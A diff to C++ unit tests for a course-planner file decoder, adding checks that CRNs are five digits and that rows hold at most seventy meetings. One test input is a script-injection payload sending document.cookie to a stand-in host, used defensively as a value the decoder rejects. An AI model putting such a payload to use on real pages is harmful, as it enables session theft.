@@ -171,12 +171,28 @@ TEST(DkfFormat, ValuesNoSavedPlanHoldsAreRejected) {
   EXPECT_EQ(DecodePlan(with_integer_at(first_cell, 25)).cells[0][0], 25);
 }
 
+// The committed CRN goes into the add/drop script that runs on the
+// registration page: a file must not carry code there.
+TEST(DkfFormat, ACommittedCrnIsFiveDigits) {
+  for (const std::string crn :
+       {"1,fetch('https://evil.example/?c='+document.cookie)", "2134", "213456", "21 45", "21345\n", ""}) {
+    planner::PlanSnapshot plan = SamplePlan();
+    plan.rows[1]->CRN = crn;
+    try {
+      DecodePlan(EncodePlan(plan));
+      ADD_FAILURE() << crn;
+    } catch (const PlanFormatError& e) {
+      EXPECT_EQ(std::string(e.what()), "2. satırdaki dersin CRN'si beş haneli bir sayı değil"_w) << crn;
+    }
+  }
+}
+
 TEST(DkfFormat, ACountOfZeroOrLessReadsNoEntries) {
   planner::PlanSnapshot plan = ResetPlan();
-  plan.rows[0] = planner::StoredRow{"A", "B", "1", "C", 3, {}};
+  plan.rows[0] = planner::StoredRow{"A", "B", "12345", "C", 3, {}};
   std::string bytes = EncodePlan(plan);
   // The count is the last integer of row 1's record, just before row 2's flag.
-  const std::size_t count_offset = 80 + 280 + 4 + 8 + 4;  // after the flag, "A B 1 C" and BlokSayisi
+  const std::size_t count_offset = 80 + 280 + 4 + 12 + 4;  // after the flag, "A B 12345 C" and BlokSayisi
   ASSERT_EQ(bytes.substr(count_offset, 4), std::string(4, '\0'));
   bytes.replace(count_offset, 4, "\xF6\xFF\xFF\xFF"s);  // -10
   const planner::PlanSnapshot back = DecodePlan(bytes);
@@ -185,12 +201,31 @@ TEST(DkfFormat, ACountOfZeroOrLessReadsNoEntries) {
   EXPECT_EQ(back.rows[0]->BlokSayisi, 3);
 }
 
-TEST(DkfFormat, AHugeCountEndsInACutNotInAnAllocation) {
-  planner::PlanSnapshot plan = ResetPlan();
-  plan.rows[0] = planner::StoredRow{"A", "B", "1", "C", 1, {}};
-  std::string bytes = EncodePlan(plan);
-  bytes.replace(80 + 280 + 4 + 8 + 4, 4, "\xFF\xFF\xFF\x7F"s);
-  EXPECT_THROW(DecodePlan(bytes), PlanFormatError);
+// A section meets at most once in each of the grid's 70 cells. A row with
+// more meetings is no saved plan, and reading thousands of them cost seconds
+// in every walk over the row; a runaway count is refused before anything is
+// read or allocated.
+TEST(DkfFormat, ARowHoldsAtMostSeventyMeetings) {
+  auto plan_with = [](int meetings) {
+    planner::PlanSnapshot plan = ResetPlan();
+    plan.rows[3] = planner::StoredRow{"A", "B", "12345", "C", meetings, {}};
+    plan.rows[3]->meetings.assign(meetings, planner::StoredMeeting{"", "1", "08:09", ""});
+    return EncodePlan(plan);
+  };
+  EXPECT_EQ(DecodePlan(plan_with(70)).rows[3]->meetings.size(), 70u);
+  std::string runaway = plan_with(1);
+  const std::size_t count_offset = 80 + 280 + 3 * 4 + 4 + 12 + 4;  // row 4's count
+  runaway.replace(count_offset, 4, "\xFF\xFF\xFF\x7F"s);
+  for (const auto& [bytes, count] :
+       {std::pair{plan_with(71), "71"}, {plan_with(20000), "20000"}, {runaway, "2147483647"}}) {
+    try {
+      DecodePlan(bytes);
+      ADD_FAILURE() << count;
+    } catch (const PlanFormatError& e) {
+      EXPECT_EQ(std::string(e.what()), std::string("4. satırdaki dersin "_w) + count +
+                                           std::string(" ders saati var (bir şubenin en çok 70 ders saati olur)"_w));
+    }
+  }
 }
 
 TEST(DkfFormat, BytesAfterTheFourBlocksAreIgnored) {
